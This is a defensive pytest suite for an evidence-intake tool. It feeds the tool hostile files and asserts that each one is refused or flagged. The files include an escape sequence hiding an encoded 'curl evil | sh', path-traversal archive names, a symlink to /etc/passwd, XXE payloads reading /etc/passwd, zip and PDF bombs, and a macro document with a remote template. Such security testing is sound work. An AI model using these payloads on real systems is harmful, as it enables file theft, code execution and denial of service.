"""Hostile files, from the list of threats: each ends in a refusal or a flag, nothing outside."""

import io
import os
import tarfile
import zipfile
import zlib

import ole_file as ole
import pytest

from casefile.intake.evidence import evidence_paragraphs
from casefile.intake.fence import resource
from casefile.library import languages

WORDS = languages()["en"]
OUTSIDE = ("passwd", "root:", "/bin/")


def zipped(members):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in members.items():
            out.writestr(name, data)
    return packed.getvalue()


def pdf_of(*objects, content=b""):
    """A PDF of one page; *content* packed is its stream."""
    packed = zlib.compress(content, 9)
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>",
        b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed),
        *objects,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    tail = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(parts) + 1, len(out))
    return out + head + table + tail


# --- what is shown of it: controls, markup and directions (threats 1, 2 and 3)


def test_escapes_markup_and_turned_names_are_harmless_in_what_a_packet_shows(child):
    nasty = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 [bold]x[/nope] inv\u202egpj.exe \x9b31m\x00"
    raw = (
        f"From: {nasty!r}\nSubject: =?utf-8?q?inv=E2=80=AEgpj=2Eexe?=\n"
        "MIME-Version: 1.0\nDate: Mon, 02 Feb 2026 10:00:00 +0000\n\n"
    ).encode() + nasty.encode("utf-8")
    full = child.read(raw, "mail.eml")
    fields, paragraphs = evidence_paragraphs(full, WORDS)
    shown = "".join(text for pair in (*fields, *paragraphs) for text in pair)

    assert full.reader == "email_message"
    assert not {c for c in shown if (ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) < 0xA0}
    assert "\u202e" not in shown
    assert "[bold]x[/nope]" in shown


# --- names (threat 4)

NAMES = [
    "../../../.bashrc",
    "..\\..\\evil.exe",
    "/etc/cron.d/evil",
    "C:\\Windows\\evil.dll",
    "CON",
    "nul.txt",
    "x" * 5000 + ".txt",
    "a\u202egpj.exe",
    "\x1b[2J.txt",
]


def archives(names):
    yield "zip", zipped({name: f"content of {n}".encode() for n, name in enumerate(names)})
    parts = "".join(
        f'--b\nContent-Type: text/x-odd\nContent-Disposition: attachment; filename="{name}"\n\n'
        f"content {n}\n"
        for n, name in enumerate(names)
        if "\x1b" not in name and len(name) < 900
    )
    head = 'From: a@b.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
    yield "eml", (head + parts + "--b--\n").encode()
    folder = ole.properties(32, {}, {(0x1000, 0x1F): "see".encode("utf-16-le")})
    for n, name in enumerate(names):
        folder[f"__attach_version1.0_#{n:08X}"] = ole.properties(
            8, {}, {(0x3707, 0x1F): name.encode("utf-16-le"), (0x3701, 0x102): b"content %d" % n}
        )
    yield "msg", ole.compound_file(folder)


@pytest.mark.parametrize("kind", ["zip", "eml", "msg"])
def test_names_that_lead_outside_are_data_and_nothing_leaves_the_library(desk, tmp_path, kind):
    case = desk.new(respondent="Acme", place="xx").case
    before = {path for path in tmp_path.rglob("*") if "library" not in path.parts}
    path = tmp_path / f"in.{kind}"
    path.write_bytes(dict(archives(NAMES))[kind])
    filed = desk.add(case.id, [path])

    assert len(filed) >= 6
    assert all(f.trouble is None for f in filed)
    after = {path for path in tmp_path.rglob("*") if "library" not in path.parts}
    assert after - before == {path}
    for kept in (desk.home / "cases" / case.id).rglob("*"):
        assert len(kept.name.encode()) < 120
        assert ".." not in kept.name
        assert kept.resolve().is_relative_to(desk.home.resolve())


def test_a_tar_with_climbing_names_is_kept_unopened(child):
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as out:
        for name in ("../../evil.txt", "/etc/evil"):
            member = tarfile.TarInfo(name)
            member.size = 4
            out.addfile(member, io.BytesIO(b"evil"))
    assert child.read(packed.getvalue(), "evidence.tar").trouble == "no_reader"


# --- links, pipes and devices (threat 5)


def test_links_and_pipes_in_a_folder_are_refused_and_the_rest_is_taken_in(desk, tmp_path):
    case = desk.new(respondent="Acme", place="xx").case
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "a.txt").write_text("An ordinary note.")
    (folder / "link.txt").symlink_to("/etc/passwd")
    os.mkfifo(folder / "pipe.txt")
    filed = {f.name: f for f in desk.add(case.id, [folder])}

    assert filed["a.txt"].exhibit is not None
    assert filed["link.txt"].trouble is not None
    assert filed["pipe.txt"].trouble is not None
    assert len(desk.case(case.id).exhibits) == 1


# --- bombs (threat 6)

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def test_a_word_file_of_one_endless_text_is_refused(child):
    text = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>'.encode()
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packed.compress(text)
    for _ in range(190):
        body += packed.compress(b"a" * 1_000_000)
    body += packed.flush()
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("word/document.xml", text + b"a" * 190_000_000)
    assert len(bomb.getvalue()) < 1_000_000
    assert child.read(bomb.getvalue(), "bomb.docx").trouble == "archive_bomb"


# --- XML (threat 7)

PAYLOADS = [
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://127.0.0.1:9/p.dtd">%a;]>',
    '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    f'<!DOCTYPE x [<!ENTITY a "{"x" * 5000}">]>',
]
UBL = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"


def _in_word(payload):
    body = f'{payload}<w:document xmlns:w="{W}"><w:body><w:p>&a;</w:p></w:body></w:document>'
    return "paper.docx", zipped({"word/document.xml": body})


def _in_invoice(payload):
    return (
        "invoice.xml",
        f'<?xml version="1.0"?>{payload}<Invoice xmlns="{UBL}">&a;</Invoice>'.encode(),
    )


def _in_wide_invoice(payload):
    return "invoice.xml", _in_invoice(payload)[1].decode().encode("utf-16")


def _in_plain_xml(payload):
    return "data.xml", f'<?xml version="1.0"?>{payload}<data>&a;</data>'.encode()


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("carrier", [_in_word, _in_invoice, _in_wide_invoice, _in_plain_xml])
def test_no_xml_reader_follows_what_a_doctype_names(child, payload, carrier):
    name, data = carrier(payload)
    full = child.read(data, name)

    if carrier is _in_plain_xml:  # shown letter for letter, never parsed
        assert "<!DOCTYPE" in full.text
        assert "&a;" in full.text
    else:
        assert full.trouble == "has_doctype"
    assert "root:" not in full.text


def test_an_invoice_inside_a_pdf_is_held_to_the_same_rule(child):
    from pypdf import PdfWriter

    written = PdfWriter()
    written.add_blank_page(200, 200)
    written.add_attachment("factur-x.xml", _in_invoice(PAYLOADS[0])[1])
    kept = io.BytesIO()
    written.write(kept)
    full = child.read(kept.getvalue(), "invoice.pdf")

    assert full.invoice is None
    assert "invoice_unreadable" in full.flags


# --- PDF (threat 8)

BOMBS = {
    "a page of a billion letters": pdf_of(content=b"BT (x) Tj ET " * 8_000_000),
    "pages in a circle": pdf_of().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
    "a page of endless size": pdf_of().replace(b"0 0 200 200", b"0 0 9e30 9e30"),
    "a promise of many pages": pdf_of().replace(b"/Count 1", b"/Count 99999999"),
    "a chain of filters": pdf_of().replace(
        b"/FlateDecode", b"[/FlateDecode" + b"/FlateDecode" * 500 + b"]"
    ),
    "nothing but a head": b"%PDF-1.7\n%%EOF",
}


@pytest.mark.skipif(resource is None, reason="the system has no limits to set")
@pytest.mark.parametrize("bomb", BOMBS)
def test_a_pdf_that_means_harm_ends_in_a_reading_or_a_reason(child, bomb):
    full = child.read(BOMBS[bomb], "evidence.pdf")

    assert not full.trouble or WORDS.has(f"refusals.{full.trouble}.what")
    assert child.read(b"A plain note comes after it.", "note.txt").text.startswith("A plain note")


# --- macros and calls home (threat 10)


def test_a_word_file_with_macros_and_a_template_elsewhere_is_flagged_not_opened(child):
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://127.0.0.1:9/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    evil = zipped(
        {
            "word/document.xml": f'<w:document xmlns:w="{W}"><w:body/></w:document>',
            "word/vbaProject.bin": b"macro",
            "word/_rels/settings.xml.rels": relations,
        }
    )
    full = child.read(evil, "evil.docm")

    assert {"macros", "outside_template"} <= set(full.flags)
    assert full.trouble == ""


def test_a_message_of_a_chat_that_is_nearly_all_blank_lines_is_read_to_its_end(child):
    said = "[12/05/2026, 10:00:00] Bob: a" + "\n" * 120_000 + "b\n[12/05/2026, 10:01:00] Ann: c\n"
    full = child.read(said.encode(), "_chat.txt")
    assert [(one.who, one.said[-1]) for one in full.messages] == [("Bob", "b"), ("Ann", "c")]
